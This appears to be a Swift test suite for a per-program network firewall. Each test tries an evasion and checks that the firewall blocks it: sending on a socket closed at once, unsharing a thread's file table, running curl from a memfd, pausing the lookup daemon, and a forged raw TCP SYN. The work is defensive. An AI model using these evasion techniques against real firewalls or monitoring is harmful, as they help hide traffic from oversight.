import Foundation
import SentryControl
import SentryTestSupport
import Testing

/// Ways around the permissions of programs that do not lead out.
@Suite(.serialized, .enabled(if: LiveQueue.isPossible && Program("setpriv").isThere, LiveQueue.needs))
struct LiveEvasionTests {
  private static let timedOut: Int32 = 28

  /// Writes what comes to UDP port 5300 into the file `heard`.
  private func startListening(on bench: ApplicationBench) async throws -> RunningProgram {
    let script = """
      import socket
      listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
      listener.bind(('', 5300))
      while True: open('\(bench.folder.path("heard"))', 'ab', 0).write(listener.recv(100) + b'\\n')
      """
    let program = try bench.cable.start(at: .sender, "python3", "-c", script)
    try await bench.cable.waitUntilListening(at: .sender, "udp", 5_300)
    return program
  }

  private static func datagram(_ text: String) -> String {
    """
    import socket, time
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b'\(text)', ('\(Cable.senderAddress)', 5300))
    time.sleep(2)
    """
  }

  /// The socket is gone before anybody can look whose it is.
  @Test(.timeLimit(.minutes(12)))
  func aSocketThatIsClosedAtOnceSendsNothing() async throws {
    try await ApplicationBench.with("{ unknown = deny; }") { bench in
      let listener = try await startListening(on: bench)
      let allowed = try await bench.copy("python3", as: "allowed")
      _ = try await bench.sentry("allow", allowed)
      _ = try await bench.cable.script(
        at: .watched, "for i in $(seq 40); do echo secret > /dev/udp/\(Cable.senderAddress)/5300; done")
      let last = try bench.start(Self.datagram("end"), by: allowed)
      try await waitUntil("the last is heard") { bench.text(of: "heard").contains("end") }
      #expect(bench.text(of: "heard") == "end\n")
      for program in [last, listener] { try await program.kill() }
    }
  }

  /// Its process does not have the socket open. It tries again while it gets through: on a busy machine a look-up may take too long.
  @Test(.timeLimit(.minutes(12)))
  func aThreadWithFilesOfItsOwnIsItsProgram() async throws {
    try await ApplicationBench.with("{ unknown = allow; }") { bench in
      let denied = try await bench.copy("python3", as: "denied")
      _ = try await bench.sentry("deny", denied)
      let script = """
        import ctypes, socket, threading, time
        def work():
          assert ctypes.CDLL(None).unshare(0x400) == 0
          for _ in range(100):
            try: socket.create_connection(('\(Cable.senderAddress)', 80), 10).close(); result = 'connected'
            except OSError as error: result = type(error).__name__
            if result != 'connected': break
            time.sleep(0.1)
          open('\(bench.folder.path("result"))', 'w').write(result)
        thread = threading.Thread(target=work); thread.start(); thread.join()
        """
      let program = try bench.start(script, by: denied)
      try await waitUntil("it has ended") { !program.isRunning }
      #expect(bench.text(of: "result") == "ConnectionRefusedError")
    }
  }

  /// Its path means nothing, so nobody can be asked about it.
  @Test(.timeLimit(.minutes(12)), arguments: ["{ unknown = deny; }", "{ timeout = 300; }"])
  func aProgramFromMemoryIsUnknown(_ settings: String) async throws {
    try await ApplicationBench.with(settings) { bench in
      let curl = try Program("curl").path
      let script = """
        import os
        file = os.memfd_create('x')
        os.write(file, open('\(curl)', 'rb').read())
        os.execv('/proc/self/fd/%d' % file, ['curl', '--silent', '--max-time', '20', 'http://\(Cable.senderAddress):80/'])
        """
      #expect(
        try await bench.cable.run(at: .watched, "python3", "-c", script).status == ApplicationBench.refused)
      #expect(try await bench.daemon.log().contains("1 of executables that are not this host's files"))
    }
  }

  /// While nobody can be asked whose a connection is, none begins but those that need no permission; it goes on by itself then.
  @Test(.timeLimit(.minutes(12)))
  func nothingPassesWhileNobodyLooksUp() async throws {
    try await ApplicationBench.with("{ unknown = deny; }") { bench in
      let (one, two) = (try await bench.copy("curl", as: "one"), try await bench.copy("curl", as: "two"))
      _ = try await bench.sentry("allow", one)
      #expect(try await bench.fetch(by: one) == 0)
      let process = try #require(try await bench.daemon.status().owners?.process)
      kill(process, SIGSTOP)
      #expect(try await bench.fetch(by: two, patience: 4) == Self.timedOut)
      async let status = bench.fetch(by: one, patience: 60)
      try await waitUntil("it has asked") { try await bench.daemon.status().owners?.unanswered ?? 0 > 2 }
      kill(process, SIGCONT)
      #expect(try await status == 0)
      #expect(try await bench.fetch(by: two) == ApplicationBench.refused)
      #expect(try await bench.daemon.log().contains("of look-ups without an answer"))
    }
  }

  /// Anybody who can guess a port can send it.
  @Test(.timeLimit(.minutes(12)))
  func aForgedSYNLeavesAnOpenConnectionAsItIs() async throws {
    try await ApplicationBench.with("{ unknown = deny; }") { bench in
      let allowed = try await bench.copy("python3", as: "allowed")
      _ = try await bench.sentry("allow", allowed, "--outbound")
      let server = try bench.cable.start(
        at: .sender, "python3", "-c",
        """
        import socket
        listener = socket.create_server(('', 9000))
        connection = listener.accept()[0]
        connection.send(b'welcome')
        while True:
          byte = connection.recv(1)
          if not byte: break
          open('\(bench.folder.path("heard"))', 'ab', 0).write(byte)
        """)
      try await bench.cable.waitUntilListening(at: .sender, "tcp", 9_000)
      let client = try bench.start(
        """
        import os, socket, time
        s = socket.create_connection(('\(Cable.senderAddress)', 9000))
        s.recv(100)
        s.send(b'a')
        open('\(bench.folder.path("port"))', 'w').write(str(s.getsockname()[1]) + '.')
        while not os.path.exists('\(bench.folder.path("go"))'): time.sleep(0.1)
        s.send(b'b')
        time.sleep(600)
        """, by: allowed)
      try await waitUntil("the first is heard") {
        bench.text(of: "heard") == "a" && bench.text(of: "port").hasSuffix(".")
      }
      let port = bench.text(of: "port").dropLast()
      let forged = try await bench.cable.run(
        at: .sender, "python3", "-c",
        """
        import socket, struct
        source, target = socket.inet_aton('\(Cable.senderAddress)'), socket.inet_aton('\(Cable.watchedAddress)')
        header = struct.pack('!HHIIBBHHH', 9000, \(port), 12345, 0, 5 << 4, 2, 1024, 0, 0)
        pseudo = source + target + struct.pack('!BBH', 0, 6, len(header)) + header
        sum = 0
        for i in range(0, len(pseudo), 2): sum += (pseudo[i] << 8) + pseudo[i + 1]
        while sum >> 16: sum = (sum & 0xffff) + (sum >> 16)
        header = header[:16] + struct.pack('!H', ~sum & 0xffff) + header[18:]
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        for _ in range(3): s.sendto(header, ('\(Cable.watchedAddress)', 0))
        """)
      #expect(forged.status == 0, "\(forged.errors)")
      _ = try bench.folder.write("go", "")
      try await waitUntil("the second is heard") { bench.text(of: "heard") == "ab" }
      for program in [client, server] { try await program.kill() }
    }
  }
}
